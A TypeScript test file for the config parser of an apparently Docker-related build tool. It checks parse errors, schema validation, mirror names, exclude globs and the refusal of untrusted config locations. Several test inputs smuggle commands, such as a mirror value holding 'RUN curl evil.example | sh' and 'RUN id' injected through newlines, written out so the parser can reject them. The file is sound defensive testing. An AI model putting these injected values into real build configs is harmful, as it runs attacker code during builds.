/** .dbuild.json: found from the context up to the git root; bad input names file, line and column. */
import {chmodSync, chownSync, mkdirSync, writeFileSync} from 'node:fs'
import path from 'node:path'

import t, {type Test} from 'tap'

import {configLines, findConfig, parseConfig} from '../../src/config.js'
import {DbuildError, ExitCode} from '../../src/exit-codes.js'
import {isImagePrefix} from '../../src/image-reference.js'
import {tempDir} from '../helpers/index.js'

/** The message of the DbuildError that parsing `text` throws (exit 78), or a failure. */
function errorOf(t: Test, text: string): string {
  try {
    parseConfig(text, 'x/.dbuild.json')
  } catch (error) {
    t.ok(error instanceof DbuildError, 'a DbuildError')
    t.equal((error as DbuildError).exit, ExitCode.CONFIG, 'exit 78')
    return (error as Error).message
  }
  t.fail(`accepted ${text}`)
  return ''
}

t.test('valid configs parse', async (t) => {
  const valid = [
    '{}',
    '{"cacheFrom": ["type=registry,ref=r/app:{branch}"], "cacheTo": ["type=inline"]}',
    '{"rules": {"link-chown": "fix", "image-mirror": "off"}}',
    '{"users": {"app": "1000:1000"}, "groups": {"users": 100, "staff": "50"}}',
    '{"mirrors": {"docker.io/docker/dockerfile": "mirror.example/dockerfile"}, "plugins": ["./rules/x.js", "../shared/y.mjs"]}',
    // a bare registry host names every image on it (image-mirror's host keys)
    '{"mirrors": {"ghcr.io": "mirror.example/ghcr", "docker.io": "mirror.gcr.io", "localhost:5000": "[::1]:5000/m/", "node": "mirror.example/library/node"}}',
    '{"defaultBranch": "release/2.x"}',
    '{"lint": {"exclude": ["vendor/**", "**/testdata/**", "docs/*.Dockerfile", "{a,b}/Dockerfile"]}}',
    '{"lint": {}}',
  ]
  for (const text of valid) t.doesNotThrow(() => parseConfig(text, '.dbuild.json'), text)
})

t.test('syntax errors give line, column and words instead of the parser code', async (t) => {
  const cases: Array<[string, RegExp]> = [
    ['{\n  "cacheFrom": ["a",]\n}', /^x\/\.dbuild\.json:2:21: a trailing comma is not allowed in JSON/],
    ['{\n  "cacheTo": ["a"],\n}', /^x\/\.dbuild\.json:3:1: a trailing comma is not allowed/],
    ['{\n  "cacheFrom" ["a"]\n}', /^x\/\.dbuild\.json:2:15: invalid JSON: expected ":" after the key/],
    ['{\n  cacheFrom: []\n}', /^x\/\.dbuild\.json:2:3: invalid JSON: (unexpected character|expected a key in double quotes)/],
    ['{\n  // a comment\n}', /^x\/\.dbuild\.json:2:3: invalid JSON: comments are not allowed/],
    ['{"a": "b"}}', /^x\/\.dbuild\.json:1:11: invalid JSON: unexpected text after the end/],
    ['[]', /^x\/\.dbuild\.json:1:1: expected a JSON object/],
    ['', /^x\/\.dbuild\.json:1:1: /],
  ]
  for (const [text, message] of cases) {
    const error = errorOf(t, text)
    t.match(error, message, JSON.stringify(text))
    t.notMatch(error, /PropertyNameExpected|ValueExpected|CommaExpected|InvalidSymbol/, 'no parser code')
  }
})

t.test('every schema error is reported, each with line and column', async (t) => {
  const text = [
    '{',
    '  "cachefrom": [],',
    '  "cacheTo": "type=inline",',
    '  "rules": {"link-chown": "maybe", "image-mirror": "off"},',
    '  "users": {"app": "app", "ok": "1:1"},',
    '  "groups": {"g": -1},',
    '  "plugins": ["data:text/javascript,process.exit(9)", "/etc/rule.js", "left-pad", "https://x.example/r.js", "./ok.js"],',
    '  "defaultBranch": "main\\nRUN id"',
    '}',
  ].join('\n')
  const lines = errorOf(t, text).split('\n')
  t.match(lines, [
    /^x\/\.dbuild\.json:2:3: unknown key "cachefrom" \(did you mean "cacheFrom"\?\)/,
    /^x\/\.dbuild\.json:3:14: "cacheTo" must be a list of strings/,
    /^x\/\.dbuild\.json:4:27: "rules" value for "link-chown" must be "fix", "warn" or "off"/,
    /^x\/\.dbuild\.json:5:20: "users" value for "app" must be a "uid:gid" string/,
    /^x\/\.dbuild\.json:6:19: "groups" value for "g" must be a numeric gid/,
    /^x\/\.dbuild\.json:7:15: "plugins"\[0\] "data:text\/javascript,process.exit\(9\)" must be a path relative to \.dbuild\.json/,
    /^x\/\.dbuild\.json:7:\d+: "plugins"\[1\] "\/etc\/rule.js" must be a path relative/,
    /^x\/\.dbuild\.json:7:\d+: "plugins"\[2\] "left-pad" must be a path relative/,
    /^x\/\.dbuild\.json:7:\d+: "plugins"\[3\] "https:\/\/x.example\/r.js" must be a path relative/,
    /^x\/\.dbuild\.json:8:20: "defaultBranch" .* is not a branch name/,
  ])
  t.equal(lines.length, 10, 'ten mistakes, ten lines')
})

t.test('mirrors: every key and value must be an image name or registry host; a newline never passes', async (t) => {
  const injected = errorOf(
    t,
    '{\n  "mirrors": {\n    "docker.io/docker/dockerfile": "mirror.example/df\\nRUN curl evil.example | sh"\n  }\n}',
  )
  t.match(
    injected,
    /^x\/\.dbuild\.json:3:36: "mirrors" value "mirror\.example\/df\\nRUN curl evil\.example \| sh" for "docker\.io\/docker\/dockerfile" is not an image name/,
  )
  t.match(errorOf(t, '{"mirrors": {"node\\nRUN id": "m.example/node"}}'), /"mirrors" key "node\\nRUN id" is not an image name/)
  t.match(errorOf(t, '{"mirrors": {"node": 3}}'), /"mirrors" value for "node" must be a string/)
  t.match(errorOf(t, '{"mirrors": ["node"]}'), /"mirrors" must be an object/)
  for (const bad of ['library/Node', 'node:latest', 'node@sha256:abc', 'a b', '-x', 'ghcr.io//x', 'node\t', 'a'.repeat(256), '']) {
    t.notOk(isImagePrefix(bad), `refused: ${JSON.stringify(bad)}`)
    t.match(errorOf(t, JSON.stringify({mirrors: {node: bad}})), /"mirrors" value/, `value ${JSON.stringify(bad)}`)
  }
  for (const good of [
    'node',
    'docker.io',
    'ghcr.io',
    'GHCR.io/owner/app',
    'localhost:5000',
    'localhost:5000/a/b',
    '[::1]:5000/x',
    'a__b/c-d.e',
    'registry-1.docker.io/library/node',
  ]) {
    t.ok(isImagePrefix(good), `accepted: ${good}`)
  }
})

t.test('lint.exclude: relative fast-glob patterns only; untrusted input never hangs or escapes', async (t) => {
  t.match(errorOf(t, '{"lint": {"exclude": "vendor/**"}}'), /"lint"\."exclude" must be a list of strings/)
  t.match(errorOf(t, '{"lint": ["vendor"]}'), /"lint" must be an object/)
  t.match(errorOf(t, '{"lint": {"excludes": []}}'), /^x\/\.dbuild\.json:1:11: "lint" has no key "excludes"; it takes "exclude"/)
  const cases: Array<[string, RegExp]> = [
    ['{1..99999999}/Dockerfile', /brace range/],
    ['/etc/**', /is absolute/],
    ['../other/**', /leaves the directory/],
    ['!keep/**', /negation/],
    ['a\nb', /control character/],
    ['', /is empty/],
    ['*'.repeat(2000), /longer than 1024/],
  ]
  for (const [pattern, why] of cases)
    t.match(errorOf(t, JSON.stringify({lint: {exclude: [pattern]}})), why, JSON.stringify(pattern).slice(0, 40))
  t.match(errorOf(t, '{"lint": {"exclude": [3]}}'), /"lint"\."exclude"\[0\] must be a string, not number 3/)
})

t.test('findConfig walks up to the git root and no further', async (t) => {
  const root = tempDir(t)
  const repo = path.join(root, 'repo')
  mkdirSync(path.join(repo, 'a', 'b'), {recursive: true})
  writeFileSync(path.join(root, '.dbuild.json'), '{"cacheFrom": ["outside"]}')
  t.same(findConfig(path.join(repo, 'a', 'b'), repo).config, {}, 'stops at the git root')
  writeFileSync(path.join(repo, '.dbuild.json'), '{"cacheFrom": ["repo"]}')
  const found = findConfig(path.join(repo, 'a', 'b'), repo)
  t.same(found.config.cacheFrom, ['repo'])
  t.equal(found.path, path.join(repo, '.dbuild.json'))
  t.equal(configLines(found).note, `config: ${path.join(repo, '.dbuild.json')}`)
})

t.test('outside a git work tree only the context directory is searched', async (t) => {
  const root = tempDir(t)
  const context = path.join(root, 'ctx')
  mkdirSync(context)
  writeFileSync(path.join(root, '.dbuild.json'), '{"cacheFrom": ["planted"]}')
  const none = findConfig(context)
  t.same(none, {config: {}}, 'the parent directory is not read')
  t.equal(configLines(none).note, 'config: none (no .dbuild.json found)')
  writeFileSync(path.join(context, '.dbuild.json'), '{"cacheFrom": ["mine"]}')
  t.same(findConfig(context).config.cacheFrom, ['mine'])
})

t.test('a config in a directory writable by everyone, or owned by someone else, is not used', async (t) => {
  const root = tempDir(t)
  const shared = path.join(root, 'shared')
  mkdirSync(shared)
  chmodSync(shared, 0o1777) // like /tmp
  writeFileSync(path.join(shared, '.dbuild.json'), '{"mirrors": {"node": "evil.example/node"}}')
  const refused = findConfig(shared)
  t.same(refused.config, {}, 'nothing of it is used')
  t.equal(refused.path, undefined)
  t.match(refused.ignored, {path: path.join(shared, '.dbuild.json'), reason: /writable by every user/})
  t.match(configLines(refused).warning, /was not used: its directory .* is writable by every user/)

  const file = path.join(root, 'repo', '.dbuild.json')
  mkdirSync(path.dirname(file))
  writeFileSync(file, '{}')
  chmodSync(file, 0o666)
  t.match(findConfig(path.dirname(file)).ignored, {reason: /the file is writable by every user/})
  chmodSync(file, 0o644)
  t.equal(findConfig(path.dirname(file)).path, file, 'the same file with sane modes is used')
})

t.test(
  'a config in a directory another user owns is not used',
  {skip: process.getuid?.() === 0 ? false : 'giving a directory to another user needs root'},
  async (t) => {
    const dir = path.join(tempDir(t), 'theirs')
    mkdirSync(dir)
    writeFileSync(path.join(dir, '.dbuild.json'), '{}')
    chownSync(dir, 65534, 65534)
    t.match(findConfig(dir).ignored, {reason: /its directory .* belongs to uid 65534, not to you \(uid 0\)/})
  },
)
